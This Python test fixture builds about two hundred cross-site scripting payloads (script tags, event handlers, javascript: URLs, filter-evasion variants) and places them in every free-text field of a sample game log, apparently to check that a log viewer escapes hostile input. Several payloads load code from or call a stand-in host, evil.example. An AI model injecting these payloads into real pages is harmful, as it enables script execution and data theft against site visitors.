"""Texts that an attacker might write into a log to harm the readers of its page."""

from __future__ import annotations

from collections.abc import Sequence

import msgspec

_SCRIPTS = ("alert(1)", "document.title='hacked'", "fetch('http://evil.example/')")
_FRAMES = (
    "<script>{0}</script>",
    "</script><script>{0}</script>",
    "</style><script>{0}</script>",
    "</title><script>{0}</script>",
    "</textarea><script>{0}</script>",
    "</svg><script>{0}</script>",
    "<img src=x onerror={0}>",
    "<svg onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<svg><animate onbegin={0} attributeName=x>",
    "<math><mtext><script>{0}</script>",
    "<iframe srcdoc='<script>{0}</script>'>",
    "<body onload={0}>",
    "<details open ontoggle={0}>",
    "<video><source onerror={0}>",
    "<input autofocus onfocus={0}>",
    '<a href="javascript:{0}">x</a>',
    "<form action=javascript:{0}><button>",
    "<object data=javascript:{0}>",
    "<embed src=javascript:{0}>",
    "<base href=http://evil.example/>{0}",
    "<link rel=stylesheet href=http://evil.example/{0}>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<style>@import 'http://evil.example/{0}'</style>",
    '"><script>{0}</script>',
    "'><script>{0}</script>",
    '" onmouseover="{0}" x="',
    "' onmouseover='{0}' x='",
    "javascript:{0}",
    "data:text/html,<script>{0}</script>",
    "{{{{{0}}}}}",
    "${{{0}}}",
    "{{% {0} %}}",
    "<!--<script>{0}",
    "--><script>{0}</script>",
    "<![CDATA[<script>{0}</script>]]>",
    "<foreignObject><script>{0}</script></foreignObject>",
    "<use href=data:image/svg+xml,{0}>",
    "<noscript><p title='</noscript><script>{0}</script>'>",
    "<template><script>{0}</script></template>",
    "<scr<script>ipt>{0}</script>",
    "<ScRiPt>{0}</sCrIpT>",
    "<script\t>{0}</script\t>",
    "&lt;script&gt;{0}&lt;/script&gt;",
    "&#60;script&#62;{0}&#60;/script&#62;",
    "\\u003cscript\\u003e{0}",
    "<x contenteditable onblur={0}>",
    "<marquee onstart={0}>",
    "<dialog open onclose={0}>",
    "<button popovertarget=x onclick={0}>",
    "<svg><a xlink:href=javascript:{0}><text>x</text></a></svg>",
    "<svg><set attributeName=href to=javascript:{0}>",
    "<table background=javascript:{0}>",
    "<div style=background:url(javascript:{0})>",
    "<div style=width:expression({0})>",
    "<isindex action=javascript:{0}>",
    "<keygen autofocus onfocus={0}>",
    "<audio src=x onerror={0}>",
    "<track onerror={0}>",
    "<frameset onload={0}>",
    "<applet code={0}>",
    "<script src=//evil.example/{0}></script>",
    "<script type=module>import('http://evil.example/{0}')</script>",
    "<script type=application/json>{0}</script>",
    "<plaintext>{0}",
    "<xmp><script>{0}</script></xmp>",
    "__proto__ {0}",
)
# Two hundred in total.
PAYLOADS = tuple(frame.format(script) for frame in _FRAMES for script in _SCRIPTS)


LOG = """game: tailwinds
pack: tailwinds-reconstructed-1
players: green={0}/sailor, orange=Ben/crew
event: {0}
date: 2026-11-18
---
green: place 3
record: note {0} who={0}
green: move aft 3
claim: winner {0}
{1}
record: amend 1 {0} who={0} why={0}
"""


def quoted(payload: str) -> str:
    return msgspec.json.encode(payload).decode()


def hostile_log(payloads: Sequence[str] = PAYLOADS) -> bytes:
    """Return every payload in every place of a log that takes free text."""
    return LOG.format(quoted(payloads[3]), "\n".join(payloads)).encode()
